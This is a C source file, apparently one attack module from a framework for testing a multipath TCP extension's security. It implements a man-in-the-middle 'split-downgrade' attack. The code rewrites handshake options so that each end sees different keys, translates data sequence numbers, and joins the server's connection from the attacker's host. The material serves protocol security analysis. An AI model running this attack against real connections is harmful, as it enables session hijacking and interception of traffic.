/* SPDX-License-Identifier: MIT */
/*
 * AT-48: each end is shown another handshake, D-04. The client, which requires
 * external keys, sees E (or G) agreed on; the server sees a host of RFC 8684,
 * with a key of the attacker's choice. Data sequence numbers begin elsewhere at
 * the two ends, so the attacker translates them while it is there. It knows
 * both keys of the server's connection and joins it from its own host.
 */
#include "atk_join.h"
#include "atk_opts.h"
#include "atk_table.h"
#include "mpx_tcp.h"

#include <string.h>

enum { FIRST_PORT = 47000, SPLITS_MAX = 16 };

enum { AFTER, IDSN };
enum { BOTH_TOKENS = 1 };
static const char *const idsn_words[] = {"one-token", "both-tokens", NULL};
static const struct atk_param params[] = {
    [AFTER] = {"after", ATK_P_TIME, .initial = 2000000000,
               .max = UINT64_C(1000000000000)},
    [IDSN] = {"idsn", ATK_P_WORD, .words = idsn_words},
    {.name = NULL},
};

struct split {
    struct atk_ends ends; /* from the client */
    uint8_t offer;        /* flags of the client's SYN */
    uint64_t shown;       /* token of the server, as the client sees it */
    struct atk_handshake server;   /* as the server sees it */
    uint64_t to_server, to_client; /* what is added to DSNs */
    bool answered, agreed, joining;
    struct atk_join join;
};
struct state {
    struct split v[SPLITS_MAX];
    unsigned n;
};

static struct split *find_split(struct state *st, const struct atk_segment *s)
{
    struct atk_ends e = atk_ends_of(s);

    if (s->dir == 1)
        e = atk_ends_swapped(&e);
    for (unsigned i = st->n; i-- > 0;)
        if (atk_ends_equal(&st->v[i].ends, &e))
            return &st->v[i];
    return NULL;
}

static void replace_option(struct atk *a, const struct atk_segment *s,
                           const struct mpx_opt *o, uint64_t now)
{
    struct atk_opts d = {.n = 0};

    atk_opts_add_others(&d, s, o->subtype);
    atk_opts_add(&d, o);
    atk_opts_replace(a, s, &d, now);
}

/* ---- the handshake ---- */

static void change_syn(struct atk *a, struct state *st,
                       const struct atk_segment *s, struct mpx_opt *o,
                       uint64_t now)
{
    struct split *x = find_split(st, s);

    if (!(o->u.capable.flags & (MPX_CAP_E | MPX_CAP_G)) ||
        (!x && !atk_has_room(a, st->n, SPLITS_MAX)))
        return;
    if (!x) {
        x = &st->v[st->n++];
        x->ends = atk_ends_of(s);
        x->offer = o->u.capable.flags;
    }
    o->u.capable.flags &= (uint8_t) ~(MPX_CAP_E | MPX_CAP_G);
    o->u.capable.flags |= MPX_CAP_H;
    replace_option(a, s, o, now);
}

static void change_synack(struct atk *a, struct split *x,
                          const struct atk_segment *s, struct mpx_opt *o,
                          uint64_t now)
{
    bool e = x->offer & MPX_CAP_E;

    if (o->u.capable.id_len != 8)
        return;
    if (!x->answered) {
        x->answered = true;
        x->server.ends = x->ends;
        x->server.version = o->u.capable.version;
        x->server.flags = o->u.capable.flags;
        x->server.id[MPX_ROLE_R] = o->u.capable.sender;
        atk_random(a, &x->server.id[MPX_ROLE_I], sizeof x->server.id[0]);
        atk_random(a, &x->shown, e ? 4 : 8);
    }
    o->u.capable.flags = e ? MPX_CAP_E | MPX_CAP_H : MPX_CAP_G;
    o->u.capable.id_len = e ? 4 : 8;
    o->u.capable.sender = x->shown;
    replace_option(a, s, o, now);
}

/* What the client makes of the two tokens: the bits do not tell the rule. */
static void note_numbers(const struct atk *a, struct split *x, uint64_t client)
{
    bool both = atk_param(a, IDSN) == BOTH_TOKENS;
    const struct mpx_profile *p =
        mpx_profile_find(!(x->offer & MPX_CAP_E) ? "paasch"
                         : both                  ? "hardened"
                                                 : "baerts");
    struct mpx_identity of[2];

    mpx_auth_identity(&of[MPX_ROLE_I], p, client, x->shown);
    mpx_auth_identity(&of[MPX_ROLE_R], p, x->shown, client);
    atk_handshake_derive(&x->server);
    x->to_server = x->server.of[MPX_ROLE_I].idsn - of[MPX_ROLE_I].idsn;
    x->to_client = of[MPX_ROLE_R].idsn - x->server.of[MPX_ROLE_R].idsn;
    x->agreed = true;
}

static void change_third(struct atk *a, struct split *x,
                         const struct atk_segment *s, struct mpx_opt *o,
                         uint64_t now)
{
    if (!x->agreed)
        note_numbers(a, x, o->u.capable.sender);
    o->u.capable.flags = x->server.flags;
    o->u.capable.id_len = 8;
    o->u.capable.sender = x->server.id[MPX_ROLE_I];
    o->u.capable.receiver = x->server.id[MPX_ROLE_R];
    replace_option(a, s, o, now);
}

static void change_dss(struct atk *a, const struct split *x,
                       const struct atk_segment *s, struct mpx_opt *o,
                       uint64_t now)
{
    struct mpx_opt_dss *d = &o->u.dss;

    d->dsn += s->dir == 0 ? x->to_server : x->to_client;
    d->ack -= s->dir == 0 ? x->to_client : x->to_server;
    if (!d->dsn8)
        d->dsn &= UINT32_MAX;
    if (!d->ack8)
        d->ack &= UINT32_MAX;
    replace_option(a, s, o, now);
}

static enum atk_verdict on_segment(struct atk *a, void *state,
                                   const struct atk_segment *s, uint64_t now)
{
    enum mpx_seg_kind kind = mpx_seg_kind_of(s->flags);
    struct state *st = state;
    struct split *x = find_split(st, s);
    struct mpx_opt o;

    if (atk_opts_find(s, MPX_SUB_CAPABLE, &o)) {
        if (kind == MPX_SEG_SYN && s->dir == 0)
            change_syn(a, st, s, &o, now);
        else if (x && kind == MPX_SEG_SYNACK && s->dir == 1)
            change_synack(a, x, s, &o, now);
        else if (x && x->answered && kind == MPX_SEG_ACK && s->dir == 0)
            change_third(a, x, s, &o, now);
    } else if (x && x->agreed && atk_opts_find(s, MPX_SUB_DSS, &o)) {
        change_dss(a, x, s, &o, now);
    }
    return ATK_PASS;
}

/* ---- joining ---- */

static void on_start(struct atk *a, void *state, uint64_t now)
{
    (void)state;
    atk_set_timer(a, now + atk_param(a, AFTER));
}

static void join_all(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->n; i++) {
        struct split *x = &st->v[i];
        uint8_t last = (uint8_t)x->server.id[MPX_ROLE_I];

        if (!x->agreed)
            continue;
        atk_spoil(a, &last, 1);
        x->server.id[MPX_ROLE_I] =
            (x->server.id[MPX_ROLE_I] & ~UINT64_C(255)) | last;
        atk_handshake_derive(&x->server);
        atk_join_open(a, &x->join, &x->server, (uint16_t)(FIRST_PORT + i));
        atk_join_request(a, &x->join, &x->server, false, now);
        x->joining = true;
    }
}

static void on_host_segment(struct atk *a, void *state,
                            const struct atk_arrival *seg, uint64_t now)
{
    struct state *st = state;
    unsigned i = (unsigned)seg->flow->local_port - FIRST_PORT;

    if (seg->flow->local_port < FIRST_PORT || i >= st->n || !st->v[i].joining ||
        seg->hdr[MPX_TCP_OFF_FLAGS] & MPX_TCP_RST)
        return;
    atk_join_take_segment(a, &st->v[i].join, &st->v[i].server.key, seg->hdr,
                          seg->hdr_len, seg->len, now);
}

static void free_state(void *state)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->n; i++)
        atk_tcp_free(&st->v[i].join.in.tcp);
}

const struct atk_ops atk_capable_split = {
    .name = "split-downgrade",
    .id = "AT-48",
    .does = "shows the client external keys and the server a host of RFC "
            "8684, translates between them, and joins from a host of its "
            "own",
    .source = "draft-baerts-tcpm-mptcpext-00 section 4.1, D-04",
    .powers = ATK_READ | ATK_CHANGE | ATK_HOST,
    .params = params,
    .spoils = true,
    .state_size = sizeof(struct state),
    .on_segment = on_segment,
    .on_start = on_start,
    .on_host_segment = on_host_segment,
    .on_timer = join_all,
    .free_state = free_state,
};
